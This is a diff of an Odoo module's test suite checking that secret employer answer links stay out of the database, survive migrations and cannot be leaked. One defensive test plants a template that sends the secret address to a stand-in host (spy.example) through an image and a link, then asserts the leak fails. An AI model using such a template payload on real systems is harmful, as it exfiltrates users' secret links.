@@ -1,20 +1,20 @@
 import importlib.util
+import re
 from pathlib import Path
 
 from markupsafe import Markup
 
 from odoo.exceptions import AccessError, UserError
 from odoo.tests import HttpCase, TransactionCase, tagged
-from odoo.tools import SQL
+from odoo.tools import SQL, verify_hash_signed
+from odoo.tools.sql import column_exists
 
-from ...models.tools.club_guard_mixin import BY_LINK
+from ...models.tools.club_guard_mixin import BY_LINK, HANDED, LINKS
 from ...utils import clock
 from ..answer_common import AnswerCase
 from odoo.addons.mail.tests.common import MockEmail
 
-MIGRATION = (
-    Path(__file__).parents[2] / "migrations" / "19.0.1.4.0" / "post-answer-secret.py"
-)
+FOLDER = Path(__file__).parents[2] / "migrations"
 SECRET = "/clubs/reponse/"
 
 
@@ -22,15 +22,15 @@ SECRET = "/clubs/reponse/"
 class TestAnswerSecret(AnswerCase, MockEmail):
     """The address that answers is in the outgoing mail, and nowhere else."""
 
-    def token(self, mail):
-        return mail.body_html.split(SECRET)[1].split('"')[0]
-
     def columns(self):
-        """Yield ``(table, column)`` of every text kept in the database."""
+        """Yield ``(table, column)`` of all that the database keeps, whatever its type."""
         self.env.cr.execute(
-            """SELECT table_name, column_name FROM information_schema.columns
-                WHERE table_schema = 'public' AND table_name NOT LIKE 'ir_%%'
-                  AND data_type IN ('text', 'character varying', 'jsonb')"""
+            """SELECT c.table_name, c.column_name
+                 FROM information_schema.columns c
+                 JOIN information_schema.tables t USING (table_schema, table_name)
+                WHERE table_schema = 'public' AND t.table_type = 'BASE TABLE'
+                  AND c.data_type NOT IN ('integer', 'bigint', 'boolean', 'numeric',
+                      'double precision', 'date', 'timestamp without time zone')"""
         )
         return self.env.cr.fetchall()
 
@@ -51,8 +51,15 @@ class TestAnswerSecret(AnswerCase, MockEmail):
                 found.add(f"{table}.{column}")
         return found
 
-    def test_no_record_keeps_the_secret(self):
-        """Of a first message, a reminder and a fresh link, thanks and questions too."""
+    def leave(self, mails):
+        """Send mails as the queue does; return the secrets that left."""
+        with self.mock_mail_gateway():
+            mails.send()
+        bodies = [mail["body"] for mail in self._mails]
+        return [body.split(SECRET)[1].split('"')[0] for body in bodies]
+
+    def test_no_column_keeps_a_secret(self):
+        """Of a first message, a reminder, thanks, questions, a link handed over."""
         self.link._send(reminder=True)
         self.first._record_hire(kind="cdi")
         self.first.placement_ids.with_user(self.animateur).action_thank_employer()
@@ -60,20 +67,105 @@ class TestAnswerSecret(AnswerCase, MockEmail):
         self.env["club.followup.question"]._send(
             self.first.placement_ids.followup_ids[:1], "person"
         )
-        mails = self.mails_of(self.env["club.answer.link"].search([]))
+        links = self.env["club.answer.link"].search([])
+        mails = self.mails_of(links)
         self.assertEqual(len(mails), 4)
         for mail in mails:
             self.assertTrue(mail.auto_delete)
-            self.assertEqual(self.where(self.token(mail)), {"mail_mail.body_html"})
-            self.assertIn(f"{SECRET}-", mail.body)
+            self.assertIn(f'{SECRET}-"', mail.body_html)
+        before = self.env["club.answer.key"].search_count([])
+        tokens = self.leave(mails)
+        self.assertEqual(self.env["club.answer.key"].search_count([]), before + 4)
+        dialog = self.link.with_user(self.animateur).action_hand_over()
+        tokens.append(dialog["context"]["default_address"].split(SECRET)[1])
+        self.assertEqual(len(set(tokens)), 5)
+        Key = self.env["club.answer.key"]
+        for token in tokens:
+            self.assertIn(Key._find(token).link_id, links)
+            self.assertEqual(self.where(token), set())
+            secret = verify_hash_signed(self.env, "club-answer", token)[1]
+            self.assertEqual(self.where(secret), set())
+
+    def test_a_failed_mail_tells_nothing_and_leaves_with_another(self):
+        mail = self.mails()
+        first = self.token(mail)
+        mail.write({"state": "exception"})
+        mail.action_retry()
+        (second,) = self.leave(mail)
+        self.assertNotEqual(first, second)
+        for token in (first, second):
+            self.assertEqual(self.where(token), set())
 
     def test_each_message_has_its_own_secret_and_all_open(self):
+        """A reminder kills nothing: what is in the employer's mailbox works."""
         self.link._send(reminder=True)
-        tokens = {self.token(mail) for mail in self.mails()}
+        tokens = set(self.leave(self.mails()))
         self.assertEqual(len(tokens), 2)
-        Link = self.env["club.answer.link"]
         for token in tokens:
-            self.assertEqual(Link._from_token(token), self.link)
+            key = self.env["club.answer.key"]._find(token)
+            self.assertEqual((key.link_id, key.way), (self.link, BY_LINK))
+
+    def test_a_template_sends_the_secret_to_nobody_else(self):
+        """Who edits templates reads no mail: no copy, no other place for the address."""
+        template = self.env.ref("clubs_ambition.mail_template_candidacy_link")
+        spy = self.env["res.partner"].create({"name": "Spy", "email": "spy@x.com"})
+        server = self.env["ir.mail_server"].create(
+            {"name": "Mine", "smtp_host": "x", "from_filter": "x.com"}
+        )
+        template.write(
+            {
+                "email_cc": "spy@x.com",
+                "partner_to": str(spy.id),
+                "mail_server_id": server.id,
+                "body_html": """<div><a t-att-href="ctx.get('club_address')">x</a>
+                    <img t-attf-src="https://spy.example/?{{ ctx.get('club_address') }}"/>
+                    <a t-attf-href="https://spy.example/?{{ ctx.get('club_address') }}">
+                        x</a></div>""",
+            }
+        )
+        self.link._send(reminder=True)
+        mail = self.mails().sorted("id")[-1]
+        self.assertFalse(mail.email_cc or mail.recipient_ids or mail.mail_server_id)
+        body = self.leaving(mail)
+        for address in re.findall(r"https?://[^\s\"<>]+", body):
+            if len(address.split(SECRET)[-1]) > 5:
+                self.assertTrue(address.startswith(self.link.get_base_url()), address)
+
+    def test_no_caller_has_a_secret_put_in_a_mail(self):
+        """A template is sent by RPC, to whom its caller likes: without a secret."""
+        template = self.env.ref("clubs_ambition.mail_template_candidacy_link")
+        before = self.env["mail.mail"].search([])
+        for user in (self.animateur, self.manager):
+            mine = template.with_user(user)
+            values = {"email_to": "me@x.com", "club_link_id": self.link.id}
+            context = {
+                "club_address": f"https://x{SECRET}-",
+                "club_link": True,
+                "default_club_link_id": self.link.id,
+            }
+            mine.with_context(**context).send_mail(self.link.id, email_values=values)
+        made = self.env["mail.mail"].search([]) - before
+        self.assertEqual(len(made), 2)
+        self.assertFalse(made.club_link_id)
+        for mail in made:
+            mail.write({"club_link_id": self.link.id})
+            self.assertFalse(mail.club_link_id)
+            self.assertNotIn("reponse/A", self.leaving(mail))
+
+    def test_a_link_leaves_by_no_mailbox_of_who_wrote(self):
+        mine, agency = self.env["ir.mail_server"].create(
+            [
+                {
+                    "name": name,
+                    "smtp_host": "x",
+                    "from_filter": self.animateur.email,
+                    "owner_user_id": owner,
+                }
+                for name, owner in (("Mine", self.animateur.id), ("Agency", False))
+            ]
+        )
+        mail = self.mails()
+        self.assertEqual(mail._filter_mail_mail_servers(mine | agency), agency)
 
     def test_nobody_writes_to_oneself(self):
         """The address of a user is no employer's: who writes would answer."""
@@ -122,8 +214,16 @@ class TestAnswerSecret(AnswerCase, MockEmail):
                 with self.assertRaises(AccessError):
                     env[model].search([])
 
-    def test_the_version_before_keeps_its_addresses(self):
-        """A link of the version before opens; its messages tell it no more."""
+    def migrate(self, version, script, before):
+        path = FOLDER / version / script
+        spec = importlib.util.spec_from_file_location("migration", path)
+        migration = importlib.util.module_from_spec(spec)
+        spec.loader.exec_module(migration)
+        migration.migrate(self.env.cr, before)
+        self.env.invalidate_all()
+
+    def test_links_of_19_0_1_3_go_on_working(self):
+        """A link of that version opens; its messages tell it no more."""
         cr = self.env.cr
         self.env.flush_all()
         mail = self.mails()
@@ -136,6 +236,7 @@ class TestAnswerSecret(AnswerCase, MockEmail):
         cr.execute("UPDATE mail_mail SET auto_delete = FALSE WHERE id = %s", [mail.id])
         cr.execute("ALTER TABLE club_answer_link ADD nonce varchar")
         cr.execute("UPDATE club_answer_link SET nonce = 's' || id")
+        cr.execute("ALTER TABLE club_answer_key DROP COLUMN way")
         template = self.env.ref("clubs_ambition.mail_template_candidacy_link")
         cr.execute(
             "UPDATE mail_template SET auto_delete = FALSE, body_html = "
@@ -143,18 +244,81 @@ class TestAnswerSecret(AnswerCase, MockEmail):
             "WHERE id = %s",
             [template.id],
         )
-        spec = importlib.util.spec_from_file_location("migration", MIGRATION)
-        migration = importlib.util.module_from_spec(spec)
-        spec.loader.exec_module(migration)
-        migration.migrate(cr, "19.0.1.3.0")
-        self.env.invalidate_all()
+        self.migrate("19.0.1.4.0", "post-answer-secret.py", "19.0.1.3.0")
+        self.forget_answers()
+        self.migrate("19.0.1.7.0", "pre-answers.py", "19.0.1.3.0")
         self.assertNotIn(token, mail.body)
-        self.assertIn(token, mail.body_html)
         self.assertTrue(mail.auto_delete and template.auto_delete)
         self.assertIn("club_address", template.body_html)
         Key = self.env["club.answer.key"]
         old = Key.search([("digest", "=", Key._digest(f"s{self.link.id}"))])
-        self.assertEqual(old.link_id, self.link)
+        self.assertEqual((old.link_id, old.way), (self.link, HANDED))
+        self.assertFalse(column_exists(cr, "club_answer_link", "nonce"))
+
+    def forget_answers(self):
+        """Be the database of a version that kept no level."""
+        for table, column in (
+            ("club_candidacy", "employer_via"),
+            ("club_candidacy", "answer_via"),
+        ):
+            self.env.cr.execute(
+                SQL(
+                    "ALTER TABLE %s DROP COLUMN %s",
+                    SQL.identifier(table),
+                    SQL.identifier(column),
+                )
+            )
+
+    def test_mails_that_waited_get_a_new_secret(self):
+        """The version before wrote it in the queue: it goes, and the mail leaves."""
+        mail = self.mails()
+        token = self.page_of(self.link).split("/")[-1]
+        self.env.flush_all()
+        self.env.cr.execute(
+            "UPDATE mail_mail SET club_link_id = NULL, body_html = %s WHERE id = %s",
+            [f'<a href="https://x{SECRET}{token}">x</a>', mail.id],
+        )
+        self.migrate("19.0.1.7.0", "post-links.py", "19.0.1.6.0")
+        self.assertEqual(self.where(token), set())
+        self.assertEqual(mail.club_link_id, self.link)
+        (new,) = self.leave(mail)
+        self.assertNotEqual(new, token)
+        for one in (new, token):
+            self.assertEqual(self.env["club.answer.key"]._find(one).link_id, self.link)
+
+    def test_answers_of_the_version_before_have_the_level_that_is_proved(self):
+        """By links that a mail alone told; by those of before; told; and none."""
+        self.first._record_hire(kind="cdi")
+        line, other = self.first.placement_ids.followup_ids[:2]
+        self.env["club.followup.question"]._send(line, "employer")
+        for one in (line, other):
+            one._record_voice("employer", "in_post", BY_LINK)
+        self.second._unguarded().write({"employer_answer": "meet"})
+        third = self.make_candidacy(self.make_participant("Zoé", "active"))
+        third.write({"state": "refused", "refusal_reason_id": self.reason.id})
+        (self.link | line.link_ids).answered_on = "2026-11-01 10:00:00"
+        self.first._unguarded().employer_answer = "hired"
+        for link in self.link | line.link_ids:
+            link._new_address()
+        self.env.flush_all()
+        for proved in (True, False):
+            with self.subTest(proved=proved), self.env.cr.savepoint() as savepoint:
+                self.env.cr.execute("ALTER TABLE club_answer_key DROP COLUMN way")
+                self.forget_answers()
+                if not proved:
+                    self.env.cr.execute("UPDATE club_answer_key SET create_uid = NULL")
+                self.env.invalidate_all()
+                self.migrate("19.0.1.7.0", "pre-answers.py", "19.0.1.6.0")
+                level = BY_LINK if proved else HANDED
+                self.assertEqual(self.first.answer_via, level)
+                self.assertEqual(self.second.answer_via, level)
+                self.assertEqual(
+                    (third.employer_via, third.answer_via), (False, "told")
+                )
+                self.assertEqual(line.employer_via, level)
+                self.assertEqual(other.employer_via, HANDED, "No link was answered.")
+                savepoint.rollback()
+            self.env.invalidate_all()
 
 
 @tagged("post_install", "-at_install")
@@ -173,8 +337,9 @@ class TestToldByLinkAlone(AnswerCase):
                 continue
             for name, field in Model._fields.items():
                 choice = field.type == "selection" and field.store
-                if choice and BY_LINK in (field.get_values(self.env) or []):
-                    yield model, name, BY_LINK
+                for way in LINKS if choice and model != "club.answer.key" else ():
+                    if way in (field.get_values(self.env) or []):
+                        yield model, name, way
         yield "club.candidacy", "employer_answer", "meet"
         yield "club.candidacy", "answered_on", "2026-01-05"
         for name in ("answered_on", "revoked_on", "email", "reminder_count"):
@@ -186,7 +351,7 @@ class TestToldByLinkAlone(AnswerCase):
 
     def test_no_role_writes_how_an_answer_came(self):
         facts = list(self.facts())
-        self.assertGreaterEqual(len(facts), 7)
+        self.assertGreaterEqual(len(facts), 14)
         for user in (self.animateur, self.manager, self.referent):
             for model, name, value in facts:
                 record = self.of_model(model)
@@ -251,13 +416,35 @@ class TestToldByLinkAlone(AnswerCase):
         self.assertNotEqual(line.employer_via, BY_LINK)
 
     def test_an_answer_by_link_is_not_touched_up(self):
-        self.line._record_voice("employer", "in_post", BY_LINK)
-        line = self.line.with_user(self.animateur)
-        for vals in ({"employer_via": "phone"}, {"employer_answered_on": "2026-01-05"}):
-            with self.assertRaisesRegex(UserError, "came by link"):
-                line.write(vals)
-        line.write({"employer_answer": "not_in_work"})
-        self.assertEqual(line.employer_via, "phone")
+        for way in LINKS:
+            self.line._record_voice("employer", "in_post", way)
+            line = self.line.with_user(self.animateur)
+            for vals in (
+                {"employer_via": "phone"},
+                {"employer_answered_on": "2026-01-05"},
+            ):
+                with self.assertRaisesRegex(UserError, "came by link"):
+                    line.write(vals)
+            line.write({"employer_answer": "not_in_work"})
+            self.assertEqual(line.employer_via, "phone")
+
+    def test_no_other_answer_and_no_other_level_is_lent_a_link(self):
+        """What came by link is that answer, by that way: it covers no other."""
+        for way in LINKS:
+            for answer in ("in_post", "not_in_work"):
+                for said in LINKS:
+                    if (way, "in_post") == (said, answer):
+                        continue
+                    self.line._record_voice("employer", "in_post", way)
+                    vals = {"employer_answer": answer, "employer_via": said}
+                    with (
+                        self.subTest(way=way, answer=answer, said=said),
+                        self.assertRaises(UserError),
+                        self.env.cr.savepoint(),
+                    ):
+                        self.line.with_user(self.animateur).write(vals)
+                    self.line.invalidate_recordset()
+                    self.assertEqual(self.line.employer_via, way)
 
 
 @tagged("post_install", "-at_install")
@@ -388,8 +575,10 @@ class TestLinkFieldsDeclared(TransactionCase):
         for model, Model in self.env.registry.items():
             if not model.startswith("club.") or Model._abstract:
                 continue
+            if model == "club.answer.key":
+                continue  # nobody's: its secrets are made by the code
             for name, field in Model._fields.items():
-                if field.type != "selection" or not field.store:
+                if field.type != "selection" or not field.store or field.compute:
                     continue
                 if BY_LINK in (field.get_values(self.env) or []):
                     self.assertIn(name, getattr(Model, "_link_fields", ()), model)
